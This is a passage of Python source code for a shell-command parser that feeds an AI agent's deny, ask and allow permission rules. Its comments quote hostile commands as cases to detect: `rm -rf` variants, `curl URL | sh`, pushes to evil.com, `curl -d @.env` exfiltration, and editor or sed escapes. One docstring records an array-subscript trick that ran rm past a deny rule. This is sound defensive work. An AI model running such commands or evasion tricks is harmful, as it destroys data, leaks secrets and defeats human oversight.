    String methods only: see `_compile_patterns`.
    """
    if not command.isascii() or not _NOT_PLAIN.isdisjoint(command) or "--env-file" in command:
        return None
    if _SEPARATOR_CHARS.isdisjoint(command):
        pieces = [command]  # one command: nothing to mark (most calls)
    else:
        marked = command  # `split` refused NUL already
        for separator in _PLAIN_SEPARATORS:
            marked = marked.replace(separator, "\0")
        pieces = marked.split("\0")
    out = []
    last = len(pieces) - 1
    moved = False  # a `cd` came first: the general path places later files (`directories`)
    for k, piece in enumerate(pieces):
        stripped = piece.strip(" \t")
        if not stripped:
            if k == last:
                continue
            return None  # maybe a syntax error: let the general path say
        words = [word for word in stripped.replace("\t", " ").split(" ") if word]
        head = words[0]
        if head in _SPECIAL or "/" in head or head.lower() != head:
            return None
        git_files_named = False  # `git add x`, `git show HEAD:x`: read here (`gitfiles`)
        if head in _READ_ARGUMENTS:  # `git -C . push`, `find -exec`, `uv run`
            if head == "git":  # the commonest: tested here, not by a call (measured)
                if len(words) > 1 and (
                    words[1][0] == "-"
                    or words[1] in GIT_RUNS
                    and git_runs_something(words)
                    or config.fetch_tool
                    and (words[1] in _GIT_REMOTES or words[1] == "config")  # (general path)
                ):
                    return None
                if len(words) > 1 and words[1] in GIT_FILE_COMMANDS:
                    if words[1] in GIT_FILE_OPTIONS:
                        git_files_named = _names_git_file(stripped)  # `git commit -F x`
                    else:
                        # With no path, `.`'s files: grep searches them, clean removes
                        # them, `add -A` stages them, a patch changes them;
                        # format-patch writes its patches there.
                        git_files_named = (
                            words[1] in _GIT_READ_ALWAYS
                            or "--output" in stripped  # `git diff --output=x`
                            or words[1] == "add"
                            and ("A" in stripped or "--all" in stripped)  # (`-Av` too)
                            or words[1] == "stash"
                            and " -" in stripped  # `git stash -u` keeps untracked files
                        )
                        for word in words[2:]:  # an operand or `--` (`git log -5`: none)
                            if word[0] != "-" or word == "--":
                                git_files_named = True
                                break
            elif config.fetch_tool and head in _FETCHERS or _READ_ARGUMENTS[head](words):
                return None  # (what curl fetches is read on the general path)
        loads = None  # `python3 x.py` reads x.py, `docker build -f x .` reads x
        if head in SCRIPT_RUNNERS and len(words) > 1:
            if words[1][0] != "-" and head in FIRST_WORD_SCRIPT:  # the commonest, without a call
                loads = [words[1]]
            else:
                loads = [words[i][k:] for i, k in script_files(words, head)] or None
                if loads is not None and len(loads) > 1:  # once each, as on the general path
                    loads = list(dict.fromkeys(loads))
        needles = CREDENTIAL_WORDS.get(head)  # (one lookup: `npm test` is common)
        if (
            needles is not None
            and not needles.isdisjoint(words)
            and credential_files(head, words) != ([], [])
        ):
            return None  # `aws configure get KEY`: the general path reads its files
        if head in OPTION_FILES and may_name_files(stripped, head):  # `docker build -f x`
            named = option_files(words, head)
            if named:  # once each, as on the general path
                loads = list(dict.fromkeys((loads or []) + named))
        outputs = None  # `go build -o x` writes x
        if head in OPTION_OUTPUTS and may_name_outputs(stripped, head):
            outputs = list(dict.fromkeys(option_outputs(words, head))) or None
        if head in PROJECT_FORMATTERS and PROJECT_FORMATTERS[head] in words:  # `cargo fmt`
            outputs = list(dict.fromkeys((outputs or []) + project_formatted(words))) or None
        files = (
            head in _FILE_PROGRAMS
            and len(words) > 1
            or git_files_named
            or loads is not None
            or outputs is not None
        )
        if files:
            if moved:
                return None
        elif head in _MOVES:
            moved = True
        # Words of safe characters only need no quoting: join them as they are.
        text = " ".join(words) if _SAFE_TEXT.issuperset(stripped) else quote_join(words)
        out.append({"args": {config.field: text}, "text": stripped})
        if config.shapes and " -" in text:
            out += _option_subjects(words, stripped, config)
        if head in LEADING_OPTIONS and len(words) > 1 and words[1][:1] in "-+":
            out += _past_leading_options(words, head, stripped, config)
        elif files and head in FILE_READERS:
            # Inline, with no option the commonest: `cat README.md` cost
            # 1.6x `ls README.md` through a helper and a comprehension (timeit).
            tool, field = config.read_tool, config.read_field
            if "-" in stripped or head in RECURSIVE_READERS:
                paths = with_files_under(head, words, read_operands(words))
            else:
                paths = words[1:]
            for path in paths:
                out.append(
                    {"args": {field: path}, "text": stripped, "tool": tool, "constrain": True}
                )
        if files and head in FILE_WRITERS:
            written = with_files_under(head, words, written_operands(head, words), write=True)
            out += _file_subjects(written, stripped, config, write=True)
        elif git_files_named:
            read, written = git_files(words, 1, _UNKNOWN)
            if read:
                out += _file_subjects(read, stripped, config, write=False)
            if written:
                out += _file_subjects(written, stripped, config, write=True)
        if config.fetch_tool and head in _REGISTRY_CLIENTS and len(words) > 1:
            from .registries import registry_urls  # (`pip install x` names none)

            out += _fetch_subjects(registry_urls(head, words), stripped, config)
        if loads is not None:
            for path in loads:  # inline, as for a reader's (measured)
                out.append(
                    {
                        "args": {config.read_field: path},
                        "text": stripped,
                        "tool": config.read_tool,
                        "constrain": True,
                    }
                )
        if outputs is not None:
            out += _file_subjects(outputs, stripped, config, write=True)
    return out


_NOT_FOLDERS = frozenset({".", "..", "/", "~"})  # (in code: `".".join`)
# `databases.TAKERS`' names, here: importing databases imports `re`, which a
# hook deciding `git status` does without
_CLIENTS = frozenset({"sqlite3", "duckdb", "psql", "mysql", "mariadb"})


def _piped_text(cmd: Command) -> str | None:
    """What the command before a `|` writes, where the line tells it: `echo
    ARGS` and `printf FORMAT ARGS` their words, `cat <<'EOF'` its document
    (`echo '.shell cat .env' | sqlite3 x.db`); None for any other."""
    fed = cmd.fed
    if fed is None or not fed.words:
        return None
    head = fed.words[0].value
    if head == "cat" and fed.body is not None and len(fed.words) == 1:
        return fed.body
    if head in ("echo", "printf"):
        return " ".join(word.value for word in fed.words[1:])
    return None


def _code_subjects(
    rest: list[Word],
    program: str,
    text: str,
    config: ShellConfig,
    depth: int,
    body: str | None = None,
) -> list[dict]:
    """What the string literals of an interpreter's code string name
    (`codes`), and of a here-document it is given (its code, read from its
    input; or, given a script, the script's input, read so too): each a
    file it may read and write, and one holding a blank a command it may
    run (`os.system("cat .env")`), held to deny and ask rules; a literal
    that is no command (`"it's"`) runs none."""
    out: list[dict] = []
    codes = code_strings([w.value for w in rest], program) if len(rest) > 2 else []
    for code in codes + ([body] if body is not None else []):
        for literal in string_literals(code):
            if may_be_path(literal):
                # and what is under it, if it is a folder (`shutil.rmtree(".git")`),
                # but for `.` and `..`, which are commoner as separators
                paths = [literal] if literal in _NOT_FOLDERS else and_under_if_folders([literal])
                out += _file_subjects(paths, text, config, False)
                out += _file_subjects(paths, text, config, True)
            if " " in literal and depth < MAX_DEPTH:
                try:
                    inner = split(literal, config, depth + 1)
                except SplitError:
                    continue
                for subject in inner:
                    subject["constrain"] = True
                out += inner
    return out


def _file_subjects(paths: list[str], text: str, config: ShellConfig, write: bool) -> list[dict]:
    """The files a FILE_READERS or FILE_WRITERS command names, as read or
    edit constraints. An empty word names no file (`grep '' f`, BSD's
    `sed -i '' …`, `cut -d ''`): as a path it was refused, and the call with it."""
    if write:
        tool, field = config.write_tool, config.write_field
    else:
        tool, field = config.read_tool, config.read_field
    return [
        {"args": {field: path}, "text": text, "tool": tool, "constrain": True}
        for path in paths
        if path
    ]


def split(command: str, config: ShellConfig = DEFAULT_CONFIG, depth: int = 0) -> list[dict]:
    if len(command) > MAX_LENGTH:
        raise SplitError(f"the command is longer than {MAX_LENGTH} characters")
    if depth > MAX_DEPTH:
        raise SplitError(f"shell strings nested deeper than {MAX_DEPTH} levels")
    if "\x00" in command:
        raise SplitError("the command holds a NUL character")
    plain = _split_plain(command, config)
    return plain if plain is not None else split_general(command, config, depth)


def split_general(
    command: str, config: ShellConfig = DEFAULT_CONFIG, depth: int = 0, env: list | None = None
) -> list[dict]:
    """The full path: lex, flatten, and read every simple command.

    `env`: what an enclosing line exports (a substitution's command sees it)."""
    out: list[dict] = []
    places = None  # where a `cd` may have left the shell (`directories`); None: not moved
    if "${" in command:
        check_expansions(command)
    loops: list = []
    substituted = _Substitutions(depth)  # (command, its file or None, where)
    lines = commands(lex(command, substituted=substituted), command, loops)
    if substituted:
        assigned = _check_substituted(lines, substituted, depth, command)
        if assigned:
            _check_assigned(lines, assigned, command)
    if "$" in command:  # what the line's variables may name (`variables`)
        from .variables import bindings, possible_values

        bound = bindings(loops, lines, command, _expand_braces)
        values = possible_values(loops, lines, command, _expand_braces)
        for cmd in lines:
            cmd.bound, cmd.values = bound, values
    if "[" in command and ("$" in command or "`" in command):  # (`\$\(` makes `$(` too)
        _check_subscripts(lines, substituted, command)
    if "IFS" in command:
        _check_ifs(lines, loops, command)
    if "=" in command:
        env = (env or []) + _exported(lines, command)
    if env:
        for cmd in lines:
            cmd.env = env
    pending = sorted(substituted, key=lambda entry: entry[2])
    for cmd in lines:
        before = places
        out.extend(anchored(_subjects(cmd, command, config, depth), places))
        places = _after(cmd, places, command)
        if pending:  # what a substitution in this command runs: a part like any other
            end = max((w.end for w in cmd.words), default=0)
            end = max([end] + [r.end for r in cmd.redirects])
            while pending and pending[0][2] < end:
                inner = pending.pop(0)[0]
                out.extend(anchored(split_general(inner, config, depth + 1, env), before))
    for inner, _, _ in pending:  # (in a loop's words)
        out.extend(anchored(split_general(inner, config, depth + 1, env), places))
    return out


# Builtins that evaluate a name or arithmetic they are given: an array's
# subscript in it is arithmetic, and a `$(…)` there runs (`test -v
# 'a[$(rm -rf ~)]'`, `unset 'a[$(…)]'`, `[[ 'a[$(…)]' -eq 1 ]]`, `let`, `read`).
_EVALUATORS = frozenset(
    "[ test [[ let declare typeset local readonly export read unset printf mapfile "
    "readarray wait".split()
)


def _check_subscripts(lines: list[Command], substituted: list, source: str) -> None:
    """A command written as text inside an array subscript is refused where
    bash may evaluate it: given to a builtin above, assigned (`x='a[$(…)]'`
    runs in a later `(( x ))`, `${a[x]}`, `[[ x -eq 1 ]]`), or in a `${…}`.
    `test -v 'a[$(rm -rf ~)]'` ran rm past `Bash(rm -rf:*)`: quoted, the
    splitter read it as a string. A real substitution (`echo "[$(date)]"`)
    runs as a part, as before."""
    real = [at for _, word, at in substituted if word is None]
    for cmd in lines:
        words = cmd.words
        evaluating = bool(words) and words[0].value in _EVALUATORS and not words[0].quoted
        for word in words:
            value = word.value
            inside = value[value.find("[") :] if "[" in value else ""
            if "$(" not in inside and "`" not in inside:
                continue
            ran = sum(1 for at in real if word.start <= at < word.end)
            if "`" not in inside and inside.count("$(") <= ran:
                continue  # (what runs is a part: read)
            if evaluating or "${" in value or _is_assignment(word, source):
                raise SplitError(
                    "a command inside an array subscript (which bash evaluates) "
                    "cannot be evaluated statically"
                )


def _check_ifs(lines: list[Command], loops: list, source: str) -> None:
    """A line that sets IFS for the rest of it, and expands a variable
    unquoted, is refused: its words split where IFS says, which is not read
    here (`IFS=:; X="push:--force"; git $X` runs `git push --force`, and
    was read as `git push:--force`). IFS before one command (`IFS= read -r
    line`) changes how that command's words were split no more than this."""
    from .variables import NAMING_BUILTINS

    sets = any(name == "IFS" for name, *_ in loops) or "${IFS" in source
    for cmd in lines:
        words = cmd.words
        k = _assignments_before(words, source)
        if k == len(words):  # assignments alone: they stay
            sets = sets or any(base_name(w.value.partition("=")[0]) == "IFS" for w in words)
        elif words[k].value in NAMING_BUILTINS:  # `read IFS`, `declare IFS=,`, `printf -v IFS`
            sets = sets or any(
                w.value == "IFS" or base_name(w.value.partition("=")[0]) == "IFS"
                or w.value[:1] == "-" and w.value.endswith("IFS")
                for w in words[k + 1 :]
            )  # fmt: skip
    if not sets:
        return
    for cmd in lines:
        for word in cmd.words:
            raw = source[word.start : word.end]
            if word.expands and not (raw[:1] == '"' == raw[-1:] and raw.count('"') == 2):
                raise SplitError(
                    "a variable expanded unquoted after IFS is set cannot be evaluated statically"
                )


def _check_substituted(
    lines: list[Command], substituted: list, depth: int, source: str
) -> set[str]:
    """What substitutions run is not nested too deep, a process
    substitution's file goes to a program that reads it as data, and a
    command substitution's output to one whose words run nothing, or to a
    variable (`PID=$(lsof -ti:3000)`, `export D=$(pwd)`): the names so set,
    which `_check_assigned` follows."""
    if depth + 1 > MAX_DEPTH:
        raise SplitError(f"commands nested deeper than {MAX_DEPTH} levels")
    files = {id(word) for _, word, _ in substituted if word is not None}
    outputs = [at for _, word, at in substituted if word is None]
    assigned: set[str] = set()
    for cmd in lines:
        if any(id(word) in files for word in cmd.words):
            program = cmd.words[0].value.rpartition("/")[2]
            if program not in _DATA_READERS or id(cmd.words[0]) in files:
                raise SplitError(
                    f"a process substitution given to {program} cannot be evaluated statically"
                )
        taking = [w for w in cmd.words if any(w.start <= at < w.end for at in outputs)]
        if taking:
            program = cmd.words[0].value
            setting = _setting_words(cmd, source)
            if setting is not None and all(_is_assignment(w, source) for w in taking):
                # (`X=$(cmd)` alone, or after export, declare, local, …)
                assigned.update(base_name(w.value.partition("=")[0]) for w in taking)
                outputs = [at for at in outputs if not any(w.start <= at < w.end for w in taking)]
                continue
            if not _takes_output(cmd) or taking[0] is cmd.words[0]:
                name, eq, _ = program.partition("$(")[0].partition("=")
                to = "an assignment" if eq and is_name(name) else program
                raise SplitError(
                    f"a command substitution given to {to} cannot be evaluated statically"
                )
            outputs = [at for at in outputs if not any(w.start <= at < w.end for w in taking)]
    if outputs:  # (in a loop's words, an assignment or a redirect)
        raise SplitError("a command substitution there cannot be evaluated statically")
    return assigned


def _setting_words(cmd: Command, source: str) -> list[Word] | None:
    """The words of a command that only sets variables: assignments alone,
    or a builtin that sets them (`export X=…`); None for any other."""
    words = cmd.words
    k = _assignments_before(words, source)
    if k == len(words):
        return words
    if k == 0 and words[0].value in _SETTERS and not words[0].quoted:
        return words[1:]
    return None


# A reference to a variable by its name, or the name alone (arithmetic reads
# one so: `(( X ))`, `${a[X]}`).
_NAMED = "(?<![A-Za-z0-9_]){}(?![A-Za-z0-9_])"


def _check_assigned(lines: list[Command], names: set[str], source: str) -> None:
    """A variable set to a command substitution's output (`PID=$(lsof -ti:3000);
    kill $PID`) holds what the agent chose, as the substitution does: each
    use must be `$NAME` or `${NAME}` in a word of a program whose words run
    nothing (`_OUTPUT_TAKERS`), not in a substitution there; any other
    mention of the name is refused (`X=$(echo -c); git $X core.pager=…`
    would run a command no rule sees)."""
    import re

    takers = [
        word
        for cmd in lines
        if _takes_output(cmd)
        for word in cmd.words[1:]
        if "$(" not in source[word.start : word.end]
    ]
    setters = {w.start for cmd in lines for w in (_setting_words(cmd, source) or ())}
    for name in names:
        for found in re.finditer(_NAMED.format(re.escape(name)), source):
            at = found.start()
            if at in setters:
                continue  # (where it is set)
            braced = source.startswith("${", at - 2) and source.startswith("}", found.end())
            if (source[at - 1 : at] == "$" or braced) and any(
                w.start <= at < w.end for w in takers
            ):
                continue
            raise SplitError(
                f"{name}, set to a command substitution's output, used there"
                " cannot be evaluated statically"
            )


def _after(cmd: Command, places: frozenset | None, source: str) -> frozenset | None:
    """Where the shell may be after `cmd` (`directories.after`); `cd $d`
    with a value the line gives d (`for d in a b; do cd $d; …`) goes there.
    Past assignments before it: `A=1 cd /etc` goes to /etc too."""
    words = cmd.words
    if words and "=" in words[0].value:
        words = words[_assignments_before(words, source) :]
    if cmd.bound and len(words) > 1 and words[-1].expands and words[0].value in ("cd", "pushd"):
        from .variables import values_of

        values = values_of(words[-1], source, cmd.bound)
        if values:
            cdpath = "CDPATH" in source
            moved = [
                after([*words[:-1], _literal_word(v, words[-1])], places, cdpath) for v in values
            ]
            return frozenset().union(*moved)
    return after(words, places, "CDPATH" in source)


def _subjects(cmd: Command, source: str, config: ShellConfig, depth: int) -> list[dict]:
    """The command's own subjects first, then its redirect targets."""
    if not cmd.redirects:
        return _command_subjects(cmd, source, config, depth)
    return _command_subjects(cmd, source, config, depth) + _redirect_subjects(cmd, source, config)


def _redirect_subjects(cmd: Command, source: str, config: ShellConfig) -> list[dict]:
    out: list[dict] = []
    for redirect in cmd.redirects:
        target = redirect.target
        if target is None:
            continue
        if target.expands:
            raise SplitError("a redirect target with a variable cannot be evaluated statically")
        bare = _unquoted(target, source)
        if _globs(bare):
            raise SplitError("a redirect target with a glob cannot be evaluated statically")
        if _BRACES.search(bare):
            raise SplitError(
                "a redirect target with a brace expansion cannot be evaluated statically"
            )
        if target.value in QUIET_TARGETS:
            continue
        text = source[redirect.start : redirect.end].strip()
        if redirect.op.lstrip("0123456789") in WRITE_REDIRECTS or redirect.op.endswith(">&"):
            out.append(
                {
                    "args": {config.write_field: target.value},
                    "text": text,
                    "tool": config.write_tool,
                }
            )
        else:
            out.append(
                {"args": {config.read_field: target.value}, "text": text, "tool": config.read_tool}
            )
    return out


def _command_subjects(cmd: Command, source: str, config: ShellConfig, depth: int) -> list[dict]:
    out: list[dict] = []
    words = cmd.words
    if not words:
        return out
    if cmd.redirects:
        start = min([words[0].start] + [r.start for r in cmd.redirects])
        end = max([words[-1].end] + [r.end for r in cmd.redirects])
    else:
        start, end = words[0].start, words[-1].end
    text = source[start:end].strip()

    guarded = False  # an assignment or wrapper that may change what runs came first
    read_first: list[dict] = []  # files read besides the operands (`xargs -a F`, `bash F`)
    k = _assignments_before(words, source)
    assignments = [w.value for w in words[:k]]
    variables = words[:k]  # the assignments' words, and those env and sudo set
    if assignments and any(
        not is_safe_assignment(base_name(a.partition("=")[0])) for a in assignments
    ):
        guarded = True
    if "{" in source:
        words = _expand_braces(words, k, source)
    for word in variables:  # `GIT_SSH_COMMAND=CMD git fetch`: what CMD is
        out += _variable_subjects(word, source, config, depth, by_shell=True)
    if k == len(words):  # assignments alone: nothing runs, but later commands may see them
        if guarded:
            return out + [{"args": {config.field: quote_join(assignments)}, "text": text}]
        return out
    fed = None  # what `find . -name '*.py' -print0 | xargs -0 CMD` hands CMD
    if program_name(words[k].value) in STRIPPABLE:
        if cmd.fed is not None and program_name(words[k].value) == "xargs":
            if any(w.value == "--null" or w.value[:1] == "-" and "0" in w.value for w in words):
                fed = _fed_by_null(cmd, words[k:], source)  # (a test first: `-0` is rare)
        rest, wrapped, set_by_wrappers, read_by_wrappers = strip_wrappers(words[k:])
        guarded = guarded or wrapped
        for word in set_by_wrappers:
            out += _variable_subjects(word, source, config, depth)
        if read_by_wrappers:  # `xargs -a .env echo` prints .env
            paths = _any_if_variable([_up_to_variable(word) for word in read_by_wrappers])
            read_first = _file_subjects([p for p in paths if p != "-"], text, config, False)
    else:
        rest = words[k:] if k else words
    if not rest:
        return out + [{"args": {config.field: quote_join([w.value for w in words])}, "text": text}]
    head = rest[0]
    if is_input(head):
        raise SplitError(f"a command named by input from {FEEDERS} cannot be evaluated statically")
    if head.expands or "$" in head.value and not head.quoted:
        raise SplitError("a variable in command position cannot be evaluated statically")
    if _globs(_unquoted(head, source)):
        raise SplitError("a glob in command position cannot be evaluated statically")
    name = head.value.rsplit("/", 1)[-1]
    program = program_name(name)
    if program == "eval":
        raise SplitError("eval cannot be evaluated statically")
    # `export LD_PRELOAD=x.so; git status` is `LD_PRELOAD=x.so git status`
    # (`_exported`); a builtin such as echo loads nothing.
    inherited = cmd.env if cmd.env and program not in _UNLOADED else []
    if inherited:
        guarded = True
    as_written = quote_join(inherited + [w.value for w in words]) if guarded else ""
    if program in BINDERS:  # `read`, `printf -v`, `declare -n`, `hash -p`
        check_builtin(program, [w.value for w in rest])
    if program in _SETTERS:  # `export GIT_SSH_COMMAND=CMD; git fetch`
        for word in rest[1:]:
            if "=" in word.value and is_name(base_name(word.value.partition("=")[0])):
                out += _variable_subjects(word, source, config, depth, by_shell=True)
    if program in SHELLS:
        script = shell_script(rest, program)
        if cmd.heredoc:
            if (
                cmd.body is None  # a here-string (`bash <<< "$X"`)
                or script is not None  # then the document is `-c`'s input
                or not shell_reads_input(rest, program)  # or a script's (`bash x.sh <<EOF`)
                or cmd.body_expands
                and any(c in cmd.body for c in "$`\\")
                or any(map(is_input, rest))
            ):
                raise SplitError(f"a here-document feeding {name} cannot be evaluated statically")
            # `bash <<'EOF' … EOF` runs the document: read as `bash -c`'s string
            # is (a variable in an unquoted one would be expanded into code first).
            script = part_of(rest[0], cmd.body)
        if script is None and any(map(is_input, rest)):
            # `xargs bash`: its input may be `-c 'rm -rf /'`
            raise SplitError(
                f"{name} given its arguments by {FEEDERS} cannot be evaluated statically"
            )
        if script is None and shell_reads_input(rest, program):
            # `curl URL | sh`, `sudo bash`: what it runs comes from its input
            raise SplitError(
                f"{name} reading commands from its input cannot be evaluated statically"
            )
        if script is None:  # `bash x.sh` reads x.sh (`sh .env` prints its lines in errors)
            file = shell_script_file(rest, program)
            if file is not None:
                read_first += _file_subjects(
                    _values_of(file, source, cmd.bound), text, config, False
                )
        if script is not None:
            if is_input(script):  # `xargs -I{} sh -c 'echo {}'`: the line is code
                raise SplitError(
                    f"a {name} -c string with input from {FEEDERS} cannot be evaluated statically"
                )
            if script.expands:
                raise SplitError(
                    f"a {name} -c string with a variable cannot be evaluated statically"
                )
            inner = split(script.value, config, depth + 1)
            if guarded:
                for subject in inner:
                    subject["constrain"] = True
                out.append({"args": {config.field: as_written}, "text": text})
            return out + inner + read_first
    if program in FOREIGN_SHELLS:  # `pwsh -c '…'`: a language not read here
        if any(map(is_input, rest[1:])):
            raise SplitError(f"{name} given arguments by {FEEDERS} cannot be evaluated statically")
        reason = foreign_shell_refusal(program, [w.value for w in rest[1:]])
        if reason is not None:
            raise SplitError(f"{reason} cannot be evaluated statically")
    if program in SCRIPT_RUNNERS and len(rest) > 1:  # `python3 x.py` reads x.py
        for at, start in script_files([w.value for w in rest], program):
            word = rest[at]
            if start:  # `php -fx.php`: the name past the option
                paths = _any_if_variable([_up_to_variable(word)[start:]])
            else:
                paths = _values_of(word, source, cmd.bound)
            read_first += _file_subjects(paths, text, config, False)
    body = cmd.body if cmd.body is not None else _piped_text(cmd)
    if program in CODE_RUNNERS and (len(rest) > 2 or body is not None):
        # `python3 -c 'open(".env").read()'`, and `python3 - <<'EOF'`'s code
        read_first += _code_subjects(rest, program, text, config, depth, body)
    if program in CREDENTIAL_WORDS and len(rest) > 1:  # `aws configure get KEY`
        read, written = credential_files(program, [w.value for w in rest])
        read_first += _file_subjects(read, text, config, False)
        read_first += _file_subjects(written, text, config, True)
    if program in OPTION_FILES and len(rest) > 1:  # `make -f x`, `pip install -r x`
        paths = option_files([_up_to_variable(w) for w in rest], program)
        read_first += _file_subjects(_any_if_variable(paths), text, config, False)
    if program in OPTION_OUTPUTS and len(rest) > 1:  # `javac -d out`, `tsc --outDir dist`
        paths = option_outputs([_up_to_variable(w) for w in rest], program)
        read_first += _file_subjects(_any_if_variable(paths), text, config, True)
    if program in PROJECT_FORMATTERS and len(rest) > 1:  # `cargo fmt`, `go fmt ./...`
        paths = project_formatted([_up_to_variable(w) for w in rest])
        read_first += _file_subjects(_any_if_variable(paths), text, config, True)
    if "--env-file" in text:  # `uv run --env-file .env …`, `node --env-file=.env x.js`
        read_first += _file_subjects(_env_files(rest, source, cmd.bound), text, config, False)
    if program in HELPER_PROGRAMS:  # `less +'!rm -rf /' x`, `make -f - <<< …`
        reason = helper_refusal(program, [w.value for w in rest])
        if reason is not None:
            raise SplitError(f"{reason} cannot be evaluated statically")
    if program in EDITORS:  # `vim -c '!rm -rf /'`, `emacs --eval …`, `ed f`
        reason = editor_refusal(program, [w.value for w in rest])
        if reason is not None:
            raise SplitError(f"{reason} cannot be evaluated statically")
    later: list[dict] = []
    if program in TAKER_NAMES:
        from .takers import COMMAND_TAKERS, HELD  # on first use: see TAKER_NAMES

        taken = COMMAND_TAKERS[program](rest, program)
        if body is not None and program in _CLIENTS:
            # `sqlite3 app.db <<'EOF'`, `psql <<'EOF'`: their input is read as -c's
            from .databases import input_commands

            taken = input_commands(taken, body, rest[0], program)
        if taken is not None:
            held = HELD in taken
            inner = _taken_subjects(taken, source, config, depth, cmd.bound)
            if held or guarded:
                _hold(inner)
            if held:
                later += inner  # `su` stays a subject as written, as `sudo` does
            else:  # `watch`, `flock`, `script`: as `bash -c`, what runs is decided
                if guarded:
                    out.append({"args": {config.field: as_written}, "text": text})
                return out + _once(inner + read_first)
    if program in LATER:
        # Commands kept to run later: a trap's at its signal (an EXIT trap
        # runs before this very command line ends), an alias's wherever it
        # is used. Their commands are subjects too: a trap's in full, as it
        # will run; an alias's to deny and ask rules (it may never run).
        for string in LATER[program](rest):
            if string.expands:
                raise SplitError(
                    f"a command kept by {program} with a variable cannot be evaluated statically"
                )
            kept = split(string.value, config, depth + 1)
            if program != "trap":  # (an alias or a package script may never run)
                for subject in kept:
                    subject["constrain"] = True
            later += kept
    elif program == "find" or program in EXEC_EACH:
        if program == "find":
            later += _find_subjects(rest, source, config, depth)
        else:
            commands = EXEC_EACH[program](rest)
            later += _each_subjects(commands, source, config, depth)
            if program != "rg":  # (what rg's --pre reads, rg reads: see FILE_READERS)
                values = [_UNKNOWN if w.expands else w.value for w in rest]
                for inner in commands:
                    later += _found_files(
                        fd_search_paths(values), inner, source, config, fd_names(values)
                    )
        if guarded:  # `sudo find ... -exec`: held to deny and ask rules, as for `sudo bash -c`
            for subject in later:
                subject["constrain"] = True
    canonical = quote_join([w.value for w in rest])
    # A value not known here (`git $X`): deny and ask rules it may match hold it.
    known = _open_text(rest, source, cmd)
    if guarded:
        # Deny and ask rules see the command past the assignment or wrapper;
        # an allow must name the command as written.
        written = {"args": {config.field: as_written}, "text": text}
        if known is not None:  # past the assignments and wrappers as written (`X=$Y git $Z`)
            before = quote_join(inherited + [w.value for w in words[: len(words) - len(rest)]])
            written["open"] = before + " " + known if before else known
        out.append(written)
        out.append(
            _opened({"args": {config.field: canonical}, "text": text, "constrain": True}, known)
        )
    else:
        out.append(_opened({"args": {config.field: canonical}, "text": text}, known))
    if config.shapes and " -" in canonical:
        # (`rm -fr $D` too: its words as written, to deny and ask rules)
        out += _option_subjects([w.value for w in rest], text, config)
    if rest[0] is not words[k] and (k or inherited or not guarded):
        # Past a wrapper (`timeout 5 make`, `echo x | xargs ls`, `A=1 sudo
        # make`): deny and ask rules see it as written past the assignments
        # too, or one on the wrapper (`Bash(xargs:*)`) would never match.
        wrapped = {"args": {config.field: quote_join([w.value for w in words[k:]])}}
        wrapped.update({"text": text, "constrain": True})
        out.append(wrapped)
    if "/" in head.value and name:
        # `/bin/rm` is `rm` to a deny rule; an allow must name the path as written.
        bare = quote_join([name] + [w.value for w in rest[1:]])
        out.append(
            _opened(
                {"args": {config.field: bare}, "text": text, "constrain": True},
                None if known is None else _open_text(rest, source, cmd, name),
            )
        )
    if program in RUNNERS and len(rest) > 1:
        # `uv run rm -rf /` runs rm: deny and ask rules see it; an allow
        # must name the runner as written (`uv run:*` still allows it).
        guesses = runner_commands(rest, RUNNERS[program], program)
        if guesses and depth + 1 > MAX_DEPTH:
            raise SplitError(f"commands nested deeper than {MAX_DEPTH} levels")
        for words in guesses:
            for subject in _words_subjects(words, source, config, depth):
                subject["constrain"] = True
                later.append(subject)
    if program in LEADING_OPTIONS and len(rest) > 1 and rest[1].value[:1] in "-+":
        # `kubectl -n prod delete pod x` is a delete to a deny or ask rule on
        # `kubectl delete`; an allow must name the options as written.
        out += _past_leading_options([w.value for w in rest], program, text, config)
    if program == "git" and len(rest) > 1:
        options = rest[1].value.startswith("-") or is_input(rest[1])
        at = git_command_at(rest) if options else 1
        if 1 < at < len(rest):
            # `git -C . push` is a push to a deny or ask rule on `git push`; an
            # allow must name the options as written (`-c` can run commands).
            read = ["git"] + [w.value for w in rest[at:]]
            bare = quote_join(read)
            out.append(
                _opened(
                    {"args": {config.field: bare}, "text": text, "constrain": True},
                    None
                    if known is None
                    else _open_text([rest[0], *rest[at:]], source, cmd, "git"),
                )
            )
            if config.shapes and " -" in bare:  # (`git -C . push -f`)
                out += _option_subjects(read, text, config)
        settings = any(w.value == "-c" or w.value.startswith("--config-env") for w in rest[1:at])
        runs = at < len(rest) and rest[at].value in GIT_RUNS
        if settings or runs:
            from .gitruns import config_commands, subcommand_commands  # on first use

            # What git runs for its settings and its command's options: held,
            # as ssh's command is.
            taken = config_commands(rest, at) if settings else []
            taken += subcommand_commands(rest, at) if runs else []
            later += _hold(_taken_subjects(taken, source, config, depth))
        git_command = rest[at].value if at < len(rest) else ""
        if config.fetch_tool and (
            git_command in _GIT_REMOTES or git_command == "config" or settings
        ):
            from .transfers import git_remote_urls, git_setting_urls

            # `git clone https://evil.com/r`, `git push git@evil.com:r`,
            # `git -c http.proxy=evil.com:3128 push`, `git config remote.x.url URL`
            values = [_up_to_variable(w) for w in rest]
            urls = git_remote_urls(values, at) if git_command in _GIT_REMOTES else []
            later += _fetch_subjects(urls + git_setting_urls(values, at), text, config)
        if git_command in GIT_FILE_COMMANDS and (
            git_command not in GIT_FILE_OPTIONS or _names_git_file(text)
        ):
            # `git show HEAD:.env` prints .env, `git restore x` overwrites x.
            values = [_UNKNOWN if w.expands or is_input(w) else w.value for w in rest]
            read, written = git_files(values, at, _UNKNOWN)
            later += _file_subjects(read, text, config, write=False)
            later += _file_subjects(written, text, config, write=True)
    if (program in FILE_READERS or program in FILE_WRITERS) and len(rest) > 1:
        # `cat .env` reads .env and `rm -rf .git` removes .git: deny and ask
        # rules on reading or editing them see that.
        if fed is not None:  # what xargs feeds is what find lists, as for its -exec
            cmd.finds = True
            later += _found_files(fed[0], rest, source, config, fed[1], text)
        later += _operand_subjects(program, rest, cmd, source, text, config)
    if program in SCRIPTED_NAMES and len(rest) > 1:
        # `sed '1e rm -rf /'` and `awk '{ print > "/etc/hosts" }'`: what a
        # script runs is a part like any other (as find's -exec), what it
        # names is read or edited.
        scripted = _taken_subjects(_script_effects(program, rest), source, config, depth)
        if guarded:  # `sudo sed …`: held to deny and ask rules, as for `sudo bash -c`
            for subject in scripted:
                subject["constrain"] = True
        later += scripted
    if program in _TRANSFERS and len(rest) > 1:
        from .transfers import transfer_files  # on first use: see TAKER_NAMES

        # `curl -d @.env URL` sends .env, `wget -O ~/.bashrc URL` writes it.
        # A word with a variable is known up to it (`-H "Bearer $T"` names
